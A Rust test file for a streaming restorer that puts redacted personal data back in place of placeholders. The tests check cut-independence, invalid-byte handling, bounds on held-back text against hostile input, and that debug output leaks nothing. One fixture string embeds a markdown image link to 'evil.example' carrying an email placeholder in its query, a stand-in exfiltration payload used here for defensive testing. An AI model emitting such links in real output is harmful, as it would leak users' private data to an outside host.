//! How the text is cut does not matter, and little is held back.

use privet::placeholder::{MAX_HELD, Placeholder};
use privet::restore::{Originals, RestoreOptions, Restorer};

use super::{originals, restored};

const ANSWER: &str = "Kære **[PERSON_2]**, din mail \\[EMAIL\\_1\\] og &#91;PHONE_1&#93; er modtaget 🎉. \
    Se ![x](https://evil.example/?q=[EMAIL_1]) eller [[DATE OF BIRTH 1]]; <b>EMAIL_10</b> [PERSON_1s] 【PERSON_1】.";

fn stream<'a>(pieces: impl IntoIterator<Item = &'a str>) -> String {
    let mut restorer = Restorer::new(originals(), RestoreOptions::default());
    let mut text: String = pieces
        .into_iter()
        .map(|piece| restorer.push(piece))
        .collect();
    text += &restorer.finish();
    text
}

#[test]
fn any_cut_in_two_gives_the_same() {
    let whole = restored(ANSWER);
    for (cut, _) in ANSWER.char_indices() {
        let (head, tail) = ANSWER.split_at(cut);
        assert_eq!(stream([head, tail]), whole, "cut at {cut}");
    }
    assert_eq!(
        stream(ANSWER.split_inclusive(|_: char| true)),
        whole,
        "every character alone"
    );
}

#[test]
fn any_cut_between_bytes_gives_the_same() {
    let whole = restored(ANSWER);
    for size in 1..=ANSWER.len() {
        let mut restorer = Restorer::new(originals(), RestoreOptions::default());
        let mut text: String = ANSWER
            .as_bytes()
            .chunks(size)
            .map(|piece| restorer.push_bytes(piece))
            .collect();
        text += &restorer.finish();
        assert_eq!(text, whole, "pieces of {size} bytes");
    }
}

#[test]
fn restoring_each_piece_alone_fails_this_test() {
    let naive: String = ANSWER
        .as_bytes()
        .chunks(7)
        .map(|piece| restored(&String::from_utf8_lossy(piece)))
        .collect();
    assert_ne!(naive, restored(ANSWER));
}

#[test]
fn invalid_bytes_become_replacement_characters_wherever_they_are_cut() {
    let rows: [(&str, &[u8]); 6] = [
        ("lone continuation", b"a\x80b"),
        ("cut short inside", b"a\xf0\x9f\x98b"),
        ("cut short at the end", b"a\xe2\x82"),
        ("surrogate", b"\xed\xa0\x80"),
        ("overlong", b"\xc0\xaf[EMAIL_1]\xff"),
        ("too high", b"\xf4\x90\x80\x80"),
    ];
    for (name, bytes) in rows {
        let expected = restored(&String::from_utf8_lossy(bytes));
        for size in 1..=bytes.len() {
            let mut restorer = Restorer::new(originals(), RestoreOptions::default());
            let mut text: String = bytes
                .chunks(size)
                .map(|piece| restorer.push_bytes(piece))
                .collect();
            text += &restorer.finish();
            assert_eq!(text, expected, "{name}, pieces of {size} bytes");
        }
    }
}

#[test]
fn only_what_can_still_become_a_placeholder_is_held_back() {
    let rows = [
        ("prose", "Hello there", ""),
        ("a lone bracket", "see [", "["),
        ("the start of a label", "see [EM", "[EM"),
        ("a bracket that is none", "see [Hello", ""),
        ("a capital that no label begins with", "see H", ""),
        ("a whole placeholder", "see [EMAIL_1]", ""),
        (
            "a bare placeholder, whose number may go on",
            "see EMAIL_1",
            "EMAIL_1",
        ),
        ("an entity", "see &#9", "&#9"),
        ("a backslash", "see \\", "\\"),
        ("the person's own brackets around it", "see [[EMAIL_1]]", ""),
    ];
    let mut failures = Vec::new();
    for (name, text, held) in rows {
        let mut restorer = Restorer::new(originals(), RestoreOptions::default());
        restorer.push(text);
        if restorer.held() != held.chars().count() {
            failures.push(format!("{name}: {} characters held", restorer.held()));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn hostile_text_cannot_make_the_restorer_hold_back_more() {
    for pattern in [
        "[",
        "[\u{200b}",
        "[[EMAIL_1]",
        "[EMAIL\u{200b}_",
        "[*~`",
        "&#000",
        "\\",
        "[ \u{ad}",
        "\u{ad}",
    ] {
        let mut restorer = Restorer::new(originals(), RestoreOptions::default());
        let text = format!("[E{}", pattern.repeat(400));
        let mut given = String::new();
        for next in text.chars() {
            given += &restorer.push(next.encode_utf8(&mut [0; 4]));
            assert!(
                restorer.held() <= MAX_HELD,
                "{pattern:?} holds {}",
                restorer.held()
            );
        }
        given += &restorer.finish();
        assert_eq!(given, restored(&text));
    }
}

#[test]
fn a_finished_restorer_starts_anew() {
    let mut restorer = Restorer::new(originals(), RestoreOptions::default());
    let mut text = restorer.push("https://a.example/?[EMA");
    text += &restorer.finish();
    text += &restorer.push("EMAIL_1 ");
    assert_eq!(text, "https://a.example/?[EMAmette@example.com ");
}

#[test]
fn debug_shows_no_text() {
    let originals = Originals::from_iter([(
        Placeholder::numbered("EMAIL", 1),
        "mette@example.com".to_owned(),
    )]);
    let mut restorer = Restorer::new(originals, RestoreOptions::default());
    restorer.push("secret [EMAI");
    let shown = format!("{restorer:?}");
    assert!(!shown.contains("mette") && !shown.contains("EMAI") && !shown.contains("secret"));
}

#[test]
fn what_a_vault_remembers_is_restored() {
    let mut vault = privet::vault::Vault::new();
    let placeholder = vault.placeholder_for("EMAIL", "EMAIL_ADDRESS", "mette@example.com");
    let text = placeholder.to_string();
    let mut restorer = Restorer::new(Originals::from(&vault), RestoreOptions::default());
    drop(vault);
    assert_eq!(restorer.push(&text), "mette@example.com");
}
